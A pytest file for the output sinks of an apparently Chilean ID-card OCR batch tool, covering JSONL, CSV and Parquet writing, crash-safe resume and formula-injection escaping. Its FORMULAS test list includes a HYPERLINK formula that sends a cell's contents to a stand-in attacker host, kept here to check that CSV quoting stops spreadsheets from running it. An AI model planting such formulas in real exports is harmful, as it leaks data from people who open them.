"""Outputs: JSON lines, flat CSV, typed Parquet; written as produced, resumable, nothing lost to a crash."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.dataset as pads
import pytest

from chile_id_ocr.batch.records import Outcome
from chile_id_ocr.batch.sinks import (
    COLUMNS,
    PENDING,
    ParquetSink,
    SinkError,
    format_of,
    open_sink,
    parquet_schema,
    prior_ids,
)
from chile_id_ocr.result import FIELD_NAMES


def _ok(card_id: str, expired: bool = False) -> Outcome:
    result: dict = {name: f"{name}-{card_id}" for name in FIELD_NAMES}
    result["surname"] = ["DE LA FUENTE", "SOTO"]
    result["confidence"] = {name: 0.5 + i / 20 for i, name in enumerate(FIELD_NAMES)}
    checks = {"run_check_digit_valid": False, "dates_valid": True, "issue_before_expiry": True, "expired": expired,
              "document_number_valid": None}  # fmt: skip
    record = {"id": card_id, "file": f"/cards/{card_id}.jpg", "result": result, "details": {"side": "front"}}
    return Outcome(record, {"side": "front", "card_type": "2013_national", "checks": checks})


def _error(card_id: str) -> Outcome:
    record = {"id": card_id, "file": f"/cards/{card_id}.jpg", "back": "/cards/b.jpg", "error_code": "AIS.0104",
              "error_msg": "The image is not supported or the image quality is poor."}  # fmt: skip
    return Outcome(record)


def _write(path: Path, fmt: str, outcomes: list[Outcome], resume: bool = False) -> None:
    sink = open_sink(str(path), fmt, resume=resume, overwrite=False)
    for outcome in outcomes:
        sink.write(outcome)
    sink.close()


def test_format_from_the_name_or_the_flag() -> None:
    assert [format_of(n) for n in ("a.jsonl", "a.ndjson", "a.CSV", "a.parquet", "-")] == [
        "jsonl", "jsonl", "csv", "parquet", "jsonl"
    ]  # fmt: skip
    assert format_of("a.out", "csv") == "csv"
    with pytest.raises(SinkError, match="use --format"):
        format_of("results.txt")


def test_jsonl_records_are_the_cli_lines_with_an_id(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    _write(out, "jsonl", [_ok("a"), _error("b")])
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert lines == [_ok("a").record, _error("b").record]


def test_an_existing_out_needs_resume_or_overwrite(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    _write(out, "jsonl", [_ok("a")])
    with pytest.raises(SinkError, match="--resume continues it, --overwrite replaces it"):
        prior_ids(str(out), "jsonl", resume=False, overwrite=False)
    assert prior_ids(str(out), "jsonl", resume=False, overwrite=True) == set()
    sink = open_sink(str(out), "jsonl", resume=False, overwrite=True)
    sink.write(_ok("b"))
    sink.close()
    assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == ["b"]
    with pytest.raises(SinkError, match="cannot be resumed"):
        prior_ids("-", "jsonl", resume=True, overwrite=False)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_resume_skips_a_line_cut_short_by_a_crash_and_removes_it(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out.{fmt}"
    _write(out, fmt, [_ok("a"), _error("b")])
    with out.open("a") as handle:
        handle.write('{"id": "c", "file": "/ca' if fmt == "jsonl" else "c,/cards/c.jp")
    assert prior_ids(str(out), fmt, resume=True, overwrite=False) == {"a", "b"}
    _write(out, fmt, [_ok("c")], resume=True)
    assert prior_ids(str(out), fmt, resume=True, overwrite=False) == {"a", "b", "c"}
    text = out.read_text()
    assert "/ca\n" not in text and "/cards/c.jp\n" not in text
    if fmt == "csv":
        assert text.count("id,file,back") == 1  # one header, not one per run


def test_csv_is_flat_one_column_per_field_confidence_and_check(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    _write(out, "csv", [_ok("a", expired=True), _error("b")])
    rows = list(csv.DictReader(out.open(newline="")))
    assert tuple(rows[0]) == COLUMNS
    ok, error = rows
    assert json.loads(ok["surname"]) == ["DE LA FUENTE", "SOTO"]  # the two printed lines, not joined
    assert ok["given_name"] == "given_name-a" and float(ok["confidence_sex"]) == 0.65
    assert (ok["check_run_check_digit_valid"], ok["check_expired"], ok["check_document_number_valid"]) == (
        "false", "true", ""
    )  # fmt: skip
    assert (ok["side"], ok["card_type"], ok["error_code"]) == ("front", "2013_national", "")
    assert json.loads(ok["details"]) == {"side": "front"}
    assert (error["error_code"], error["back"], error["surname"], error["confidence_sex"]) == (
        "AIS.0104", "/cards/b.jpg", "", ""
    )  # fmt: skip


def test_csv_from_another_version_is_not_resumed(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("id,file,result\na,/a.jpg,{}\n")
    with pytest.raises(SinkError, match="other columns"):
        prior_ids(str(out), "csv", resume=True, overwrite=False)


def test_parquet_parts_are_typed_with_one_schema(tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    sink = ParquetSink(str(out), part_rows=2)
    for outcome in (_error("e1"), _error("e2"), _ok("a"), _ok("b", expired=True), _error("e3")):
        sink.write(outcome)
    sink.close()
    assert sorted(p.name for p in out.iterdir()) == [f"part-00000{i}.parquet" for i in range(3)]
    table = pads.dataset(out).to_table()  # the folder reads as one dataset
    assert table.schema == parquet_schema()  # the same for a part of errors only
    rows = {row["id"]: row for row in table.to_pylist()}
    assert rows["a"]["surname"] == ["DE LA FUENTE", "SOTO"]
    assert rows["b"]["check_expired"] is True and rows["a"]["check_expired"] is False
    assert rows["a"]["confidence_surname"] == 0.5 and rows["e1"]["confidence_surname"] is None
    assert rows["e3"]["error_code"] == "AIS.0104" and rows["e3"]["back"] == "/cards/b.jpg"


def test_parquet_records_pending_at_a_crash_are_recovered_by_resume(tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    crashed = ParquetSink(str(out), part_rows=2)
    for outcome in (_ok("a"), _ok("b"), _ok("c")):
        crashed.write(outcome)  # "a", "b" make a whole part; "c" waits in _pending.jsonl
    with (out / PENDING).open("a") as handle:
        handle.write('{"record": {"id": "d", "fi')  # a write cut short by the crash
    # no close(): the process died here
    assert sorted(p.name for p in out.iterdir()) == [PENDING, "part-000000.parquet"]
    assert prior_ids(str(out), "parquet", resume=True, overwrite=False) == {"a", "b", "c"}
    _write(out, "parquet", [_error("d")], resume=True)
    assert sorted(p.name for p in out.iterdir()) == [f"part-00000{i}.parquet" for i in range(3)]
    ids = pads.dataset(out).to_table(columns=["id"]).column("id").to_pylist()
    assert sorted(ids) == ["a", "b", "c", "d"]


def test_parquet_out_is_a_folder(tmp_path: Path) -> None:
    (tmp_path / "out.parquet").write_text("x")
    with pytest.raises(SinkError, match="folder of parts"):
        prior_ids(str(tmp_path / "out.parquet"), "parquet", resume=True, overwrite=False)


FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"card")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_csv_cells_a_spreadsheet_would_run_get_a_quote_other_formats_keep_the_text(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out.{fmt}"
    hostile = [Outcome({**_error(text).record, "file": text}) for text in FORMULAS]
    _write(out, fmt, [*hostile, _ok("12.749.625-K")])
    if fmt == "csv":
        rows = list(csv.DictReader(out.open(newline="")))
        assert [(row["id"], row["file"]) for row in rows[:-1]] == [("'" + t, "'" + t) for t in FORMULAS]
        assert rows[-1]["id"] == "12.749.625-K" and rows[-1]["number"] == "number-12.749.625-K"
        assert rows[-1]["details"] == '{"side": "front"}' and rows[-1]["confidence_surname"] == "0.5"
    elif fmt == "jsonl":
        assert [json.loads(line)["file"] for line in out.read_text().splitlines()][:-1] == FORMULAS
    else:
        assert pads.dataset(out).to_table().column("file").to_pylist()[:-1] == FORMULAS
    assert prior_ids(str(out), fmt, resume=True, overwrite=False) == {*FORMULAS, "12.749.625-K"}  # resume reads them
